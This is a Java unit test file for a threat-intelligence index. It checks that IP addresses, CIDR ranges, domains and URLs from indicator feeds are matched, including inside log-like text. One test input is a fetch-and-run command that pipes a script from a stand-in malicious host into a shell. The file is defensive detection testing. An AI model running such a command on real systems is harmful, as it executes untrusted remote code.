package io.huntlake.intel;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;

/** Lookups as rules make them: by address and range, by name and parent, by URL, in prose. */
class IntelIndexTest {
  private static Indicator indicator(String raw, String feed) {
    IndicatorValues.Normalized value = IndicatorValues.indicator(raw, Optional.empty());
    return new Indicator(value.value(), value.type().orElseThrow(), feed, null, null, null);
  }

  private static final IntelIndex INDEX =
      new IntelIndex(
          List.of(
              indicator("198.51.100.23", "c2"),
              indicator("203.0.113.0/24", "scanners"),
              indicator("203.0.113.128/25", "scanners-strict"),
              indicator("2001:db8:bad::/48", "v6"),
              indicator("evil.example", "phish"),
              indicator("http://files.example/x.sh", "urls"),
              indicator("198.51.100.23", "other-feed")));

  @Test
  void addressesMatchExactlyOrByTheMostSpecificRange() {
    assertThat(INDEX.matchAddress("198.51.100.23").orElseThrow().feed())
        .isEqualTo("c2, other-feed");
    assertThat(INDEX.matchAddress("198.51.100.24")).isEmpty();
    assertThat(INDEX.matchAddress("203.0.113.7").orElseThrow().feed()).isEqualTo("scanners");
    assertThat(INDEX.matchAddress("203.0.113.200").orElseThrow().feed())
        .isEqualTo("scanners-strict");
    assertThat(INDEX.matchAddress("::ffff:198.51.100.23")).isPresent();
    assertThat(INDEX.matchAddress("2001:db8:bad:1::5").orElseThrow().feed()).isEqualTo("v6");
    assertThat(INDEX.matchAddress("not-an-address")).isEmpty();
    assertThat(INDEX.matchAddress(null)).isEmpty();
  }

  @Test
  void namesMatchThemselvesAndEveryNameUnderThemButNotLookalikes() {
    assertThat(INDEX.matchDomain("evil.example")).isPresent();
    assertThat(INDEX.matchDomain("A.B.Evil.Example.")).isPresent();
    assertThat(INDEX.matchDomain("notevil.example")).isEmpty();
    assertThat(INDEX.matchDomain("evil.example.org")).isEmpty();
    assertThat(INDEX.matchDomain("example")).isEmpty();
  }

  @Test
  void urlsMatchExactlyOrByTheirHost() {
    assertThat(INDEX.matchUrl("HTTP://files.example:80/x.sh#top")).isPresent();
    assertThat(INDEX.matchUrl("http://files.example/y.sh")).isEmpty();
    assertThat(INDEX.matchUrl("https://cdn.evil.example/anything").orElseThrow().feed())
        .isEqualTo("phish");
    assertThat(INDEX.matchUrl("http://198.51.100.23:8080/beacon")).isPresent();
    assertThat(INDEX.matchUrl("no scheme here")).isEmpty();
  }

  @Test
  void proseIsSearchedForUrlsNamesAndAddresses() {
    assertThat(INDEX.matchText("curl -fsSL http://files.example/x.sh | sh")).isPresent();
    assertThat(INDEX.matchText("resolved api.evil.example in 3ms")).isPresent();
    assertThat(INDEX.matchText("client=198.51.100.23 status=200")).isPresent();
    assertThat(INDEX.matchText("upstream (203.0.113.9:443) closed")).isPresent();
    assertThat(INDEX.matchText("release 1198.51.100.23 is out")).isEmpty();
    assertThat(INDEX.matchText("see docs.example.com and 10.0.0.1")).isEmpty();
    assertThat(IntelIndex.EMPTY.matchText("198.51.100.23")).isEmpty();
  }
}
